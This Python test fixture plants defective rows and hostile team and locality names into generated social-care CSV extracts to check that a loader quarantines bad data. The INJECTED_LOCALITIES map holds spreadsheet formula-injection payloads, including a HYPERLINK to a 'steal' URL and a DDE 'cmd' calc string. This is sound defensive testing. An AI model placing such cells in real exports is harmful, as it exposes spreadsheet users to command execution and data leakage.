"""Planting what real extracts carry in their first week (issue 11) into a generated authority.

`open_end_placeholders` writes 9999-12-31 into every blank "open" end date, the way several
case-management systems export "still open": the indicators must not change. `plant_defects`
adds rows the loader must quarantine (so, again, the indicators must not change) and renames
teams and localities to text that attacks spreadsheets and charts.
"""

from __future__ import annotations

import csv
from pathlib import Path

from pipelines.contract import load_contract

PLACEHOLDER = "9999-12-31"

# Teams and localities a worklist or chart must show as plain text, never run or parse.
INJECTED_LOCALITIES = {
    "North": '=HYPERLINK("http://example.org/steal?x=1","North")',
    "West": "@SUM(1+1)*cmd|' /C calc'!A0",
    "East": "+East",
    "North West": r"$\foo$ North West",
    "South West": "South-East",  # its worklist must not overwrite South East's
}
INJECTED_TEAMS = {"MASH": "-MASH+1"}


def _rewrite(path: Path, change) -> int:
    """Apply change(row) -> bool to every data row of a CSV; the number changed."""
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    changed = sum(1 for row in rows[1:] if change(rows[0], row))
    with open(path, "w", newline="", encoding="utf-8") as f:
        csv.writer(f, lineterminator="\n").writerows(rows)
    return changed


def open_end_placeholders(extracts: Path, placeholder: str = PLACEHOLDER) -> int:
    """Blank open end dates -> the placeholder, in every table; the number written."""
    written = 0
    for table in load_contract().tables:
        for column in table.open_end_columns:

            def fill(header, row, column=column):
                i = header.index(column)
                if row[i].strip():
                    return False
                row[i] = placeholder
                return True

            written += _rewrite(extracts / table.file_name, fill)
    return written


def _append(path: Path, lines: list[str]) -> None:
    with open(path, "a", encoding="utf-8", newline="") as f:
        f.write("".join(line + "\n" for line in lines))


def _columns(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return next(csv.reader(f))


def _row(path: Path, **values: str) -> str:
    """A CSV line for the file's header, with the given values and the rest blank."""
    header = _columns(path)
    cells = [values.get(name, "") for name in header]
    for cell in cells:
        assert "," not in cell and '"' not in cell
    return ",".join(cells)


def plant_defects(extracts: Path) -> dict[str, int]:
    """Rows the loader must quarantine, and hostile team and locality names; what was planted
    per table (quarantined rows)."""
    contacts = extracts / "ssd_contacts.csv"
    person = extracts / "ssd_person.csv"
    placement = extracts / "ssd_cla_placement.csv"
    _append(
        contacts,
        [
            _row(
                contacts,
                cont_contact_id="XQ1",
                cont_person_id="P000001",
                cont_contact_date="01/08/14",
            ),  # two-digit year
            _row(
                contacts,
                cont_contact_id="\t\t",
                cont_person_id="P000001",
                cont_contact_date="2014-08-01",
            ),  # a key of tabs
            _row(
                contacts,
                cont_contact_id="XQ3",
                cont_person_id="P000001",
                cont_contact_date="2014-08-01",
                cont_contact_source_desc="Poli\x00ce",
            ),
            _row(
                contacts,
                cont_contact_id="XQ4",
                cont_person_id="P000001",
                cont_contact_date="9999-12-31",
            ),  # a placeholder where it means nothing
        ],
    )
    _append(person, [_row(person, pers_person_id="XQP1", pers_dob="1066-10-14")])
    _append(
        placement,
        [
            _row(
                placement,
                clap_cla_placement_id=f"XQL{i}",
                clap_cla_id="XQC",
                clap_person_id="XQP2",
                clap_cla_placement_start_date="2014-01-01",
                clap_cla_placement_distance=value,
            )
            for i, value in enumerate(["NaN", "inf", "1e999"])
        ],
    )

    def rename(column: str, names: dict[str, str]):
        def change(header, row):
            i = header.index(column)
            if row[i] in names:
                row[i] = names[row[i]]
                return True
            return False

        return change

    _rewrite(
        extracts / "ssd_early_help_episodes.csv",
        rename("earl_episode_locality", INJECTED_LOCALITIES),
    )
    _rewrite(extracts / "ssd_cin_episodes.csv", rename("cine_referral_team", INJECTED_TEAMS))
    return {"ssd_contacts": 4, "ssd_person": 1, "ssd_cla_placement": 3}
